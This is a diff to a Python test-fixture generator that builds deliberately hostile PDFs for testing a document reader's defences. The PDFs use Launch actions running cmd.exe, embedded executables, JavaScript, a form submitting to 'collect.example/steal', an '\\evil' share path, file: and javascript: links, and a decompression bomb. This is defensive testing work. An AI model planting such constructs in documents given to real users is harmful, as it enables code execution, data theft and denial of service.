@@ -442,6 +442,161 @@ def paper_files() -> None:
     (BAD / "paper_garbage_after_header.pdf").write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 8)
 
 
+# -- hostile_pdf_: papers that act, hide files, lie about their size or structure ---------------------------
+
+_PAGE_TEXT = b"BT /F1 14 Tf 72 720 Td (Report to the PCC: hostile paper) Tj ET"
+_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
+
+
+def raw_pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
+    """A PDF from numbered object bodies (object 1 first), with a correct cross-reference table."""
+    out = io.BytesIO()
+    out.write(b"%PDF-1.7\n")
+    offsets = []
+    for n, body in enumerate(objects, start=1):
+        offsets.append(out.tell())
+        out.write(b"%d 0 obj\n" % n + body + b"\nendobj\n")
+    xref = out.tell()
+    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
+    for offset in offsets:
+        out.write(b"%010d 00000 n \n" % offset)
+    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref))
+    return out.getvalue()
+
+
+def pdf_stream(data: bytes, extra: bytes = b"") -> bytes:
+    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"
+
+
+def hostile_paper(catalog: bytes = b"", page: bytes = b"", more: tuple[bytes, ...] = (),
+                  content: bytes = _PAGE_TEXT, trailer: bytes = b"") -> bytes:
+    """One text page: 1 catalog, 2 pages, 3 page, 4 its content, 5 its font, then ``more`` from object 6."""
+    return raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
+        b"/Contents 4 0 R " + page + b">>",
+        pdf_stream(content),
+        _FONT,
+        *more,
+    ], trailer)
+
+
+def _tree(pages_node: bytes, page: bytes = b"/MediaBox [0 0 595 842] ", more: tuple[bytes, ...] = ()) -> bytes:
+    """A paper whose object 2 (the page tree) is given: object 3 is a page, 4 its content, 5 its font."""
+    return raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        pages_node,
+        b"<< /Type /Page /Parent 2 0 R " + page + b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
+        pdf_stream(_PAGE_TEXT),
+        _FONT,
+        *more,
+    ])
+
+
+_EXE = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."
+_ENCRYPT_ID = b"/ID [<%s> <%s>] " % (b"11" * 16, b"11" * 16)
+_AES = {
+    "aes256": b"<< /Filter /Standard /V 5 /R 6 /Length 256 /CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen "
+              b"/Length 32 >> >> /StmF /StdCF /StrF /StdCF /O <%s> /U <%s> /OE <%s> /UE <%s> /P -1028 /Perms <%s> >>"
+              % (b"ab" * 48, b"cd" * 48, b"ef" * 32, b"01" * 32, b"23" * 16),
+    "aes128": b"<< /Filter /Standard /V 4 /R 4 /Length 128 /CF << /StdCF << /CFM /AESV2 /AuthEvent /DocOpen "
+              b"/Length 16 >> >> /StmF /StdCF /StrF /StdCF /O <%s> /U <%s> /P -1028 >>" % (b"ab" * 32, b"cd" * 32),
+}
+
+
+def hostile_pdf_files() -> None:
+    """Papers built to act when opened, or to exhaust the reader; see tests/test_hostile_papers.py.
+
+    The AES papers carry a real AES encryption dictionary over ciphertext that is only random-looking
+    bytes: the app refuses from the dictionary alone, and pypdf cannot write AES without cryptography."""
+    files = {
+        # Page JavaScript, a Launch action on opening, an embedded .exe, document JavaScript: the measured case.
+        "javascript_launch_exe": hostile_paper(
+            catalog=b"/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 7 0 R] >> "
+                    b"/EmbeddedFiles << /Names [(invoice.exe) 8 0 R] >> >> /AA << /WC 7 0 R >> ",
+            page=b"/AA << /O 7 0 R /C 7 0 R >> ",
+            more=(b"<< /Type /Action /S /Launch /F (invoice.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
+                  b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\);) >>",
+                  b"<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 9 0 R >> >>",
+                  pdf_stream(_EXE, b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload "))),
+        # A link whose action is JavaScript, chained by /Next to a Launch; the JavaScript held in a stream.
+        "annotation_javascript": hostile_paper(
+            page=b"/Annots [6 0 R] ",
+            more=(b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /A 7 0 R >>",
+                  b"<< /S /JavaScript /JS 8 0 R /Next [9 0 R] >>",
+                  pdf_stream(b"this.exportDataObject({cName: 'x', nLaunch: 2});"),
+                  b"<< /S /Launch /F << /Type /Filespec /F (\\\\\\\\evil\\\\share\\\\x.exe) >> >>")),
+        # Links into another file and into an embedded one, and a file attachment on the page.
+        "goto_embedded": hostile_paper(
+            page=b"/Annots [6 0 R 7 0 R 8 0 R] ",
+            more=(b"<< /Type /Annot /Subtype /Link /Rect [72 600 200 620] /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>",
+                  b"<< /Type /Annot /Subtype /Link /Rect [72 560 200 580] /A << /S /GoToE /NewWindow true "
+                  b"/T << /R /C /N (payload.pdf) >> /D [0 /Fit] >> >>",
+                  b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 500 90 520] /Name /Paperclip "
+                  b"/FS << /Type /Filespec /F (payload.exe) /EF << /F 9 0 R >> >> >>",
+                  pdf_stream(_EXE, b"/Type /EmbeddedFile "))),
+        # An XFA form whose fields submit, import data and run JavaScript when touched.
+        "form_actions": hostile_paper(
+            catalog=b"/AcroForm << /Fields [6 0 R] /XFA 8 0 R /NeedAppearances true >> ",
+            page=b"/Annots [6 0 R] ",
+            more=(b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [72 400 200 430] /P 3 0 R "
+                  b"/A << /S /SubmitForm /F << /FS /URL /F (http://collect.example/steal) >> /Flags 4 >> "
+                  b"/AA << /E << /S /ImportData /F (data.fdf) >> /K 7 0 R >> >>",
+                  b"<< /S /JavaScript /JS (event.value = 1;) >>",
+                  pdf_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.launchURL('x');</script></xdp:xdp>"))),
+        # Rich media and 3D annotations, and a rendition action.
+        "rich_media": hostile_paper(
+            page=b"/Annots [6 0 R 7 0 R 8 0 R] ",
+            more=(b"<< /Type /Annot /Subtype /RichMedia /Rect [72 300 300 500] /RichMediaContent << /Assets 9 0 R >> "
+                  b"/RichMediaSettings << >> >>",
+                  b"<< /Type /Annot /Subtype /3D /Rect [300 300 500 500] /3DD 9 0 R >>",
+                  b"<< /Type /Annot /Subtype /Screen /Rect [72 100 300 280] /A << /S /Rendition /OP 0 >> >>",
+                  pdf_stream(b"FWS\x09 flash movie"))),
+        # A web link (kept), and links to a file: and a javascript: address (removed).
+        "links": hostile_paper(
+            page=b"/Annots [6 0 R 7 0 R 8 0 R] ",
+            more=(b"<< /Type /Annot /Subtype /Link /Rect [72 680 300 700] /A << /S /URI /URI (https://www.norfolk-pcc.gov.uk/) >> >>",
+                  b"<< /Type /Annot /Subtype /Link /Rect [72 650 300 670] /A << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> >>",
+                  b"<< /Type /Annot /Subtype /Link /Rect [72 620 300 640] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>")),
+        # JavaScript and an embedded file in objects nothing refers to: inert, but stored nowhere all the same.
+        "orphan_javascript": hostile_paper(
+            more=(b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\);) >>", pdf_stream(_EXE, b"/Type /EmbeddedFile "))),
+        # Encryption of every kind, refused alike.
+        "aes256": hostile_paper(trailer=b"/Encrypt 6 0 R " + _ENCRYPT_ID, more=(_AES["aes256"],)),
+        "aes128": hostile_paper(trailer=b"/Encrypt 6 0 R " + _ENCRYPT_ID, more=(_AES["aes128"],)),
+        # Page boxes that cannot be laid out, and trees with no page.
+        "no_mediabox": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page=b""),
+        "zero_area_box": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page=b"/MediaBox [0 0 0 842] "),
+        "inverted_box": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page=b"/MediaBox [595 842 0 0] "),
+        "absurd_box": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page=b"/MediaBox [0 0 1000000000 842] "),
+        "box_of_words": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page=b"/MediaBox [(a) (b) (c) (d)] "),
+        "rotated_by_words": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Rotate (a quarter) >>"),
+        "zero_pages": _tree(b"<< /Type /Pages /Kids [] /Count 0 >>"),
+        # Structures that loop or nest without end, or claim far more than they hold.
+        "pages_loop": _tree(b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"),
+        "pages_loop_deeper": _tree(b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>",
+                                   more=(b"<< /Type /Pages /Parent 2 0 R /Kids [7 0 R] /Count 1 >>",
+                                         b"<< /Type /Pages /Parent 6 0 R /Kids [3 0 R 6 0 R] /Count 1 >>")),
+        "deep_page_tree": _tree(b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>", more=tuple(
+            b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (n + 1 if n < 105 else 3) for n in range(6, 106))),
+        "deep_nesting": hostile_paper(page=b"/Deep 6 0 R ", more=(b"[" * 20_000 + b"]" * 20_000,)),
+        "nested_200_deep": hostile_paper(page=b"/Deep 6 0 R ", more=(b"<< /A " * 200 + b"1" + b" >>" * 200,)),
+        "claims_50000_pages": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 50000 >>"),
+        # A content stream of 40 KB that inflates to 40 MB of drawing instructions.
+        "content_bomb": hostile_paper(more=(
+            pdf_stream(zlib.compress(b" " * (40 * 1024 * 1024), 9), b"/Filter /FlateDecode "),),
+            page=b"/Contents [4 0 R 6 0 R] ").replace(b"/Contents 4 0 R ", b""),
+    }
+    for name, content in files.items():
+        (BAD / f"hostile_pdf_{name}.pdf").write_bytes(content)
+    # A PDF inside a zip, renamed .pdf.
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr(zipfile.ZipInfo("report.pdf", FIXED_TIME.timetuple()[:6]), files["links"])
+    (BAD / "hostile_pdf_zip_renamed.pdf").write_bytes(packed.getvalue())
+
+
 def main() -> None:
     if BAD.exists():
         shutil.rmtree(BAD)
@@ -451,6 +606,7 @@ def main() -> None:
     paper_files()
     hostile_sheet_files()
     hostile_value_files()
+    hostile_pdf_files()
     for workbook_file in BAD.glob("*.xlsx"):
         if zipfile.is_zipfile(workbook_file):
             _rewrite_zip(workbook_file)
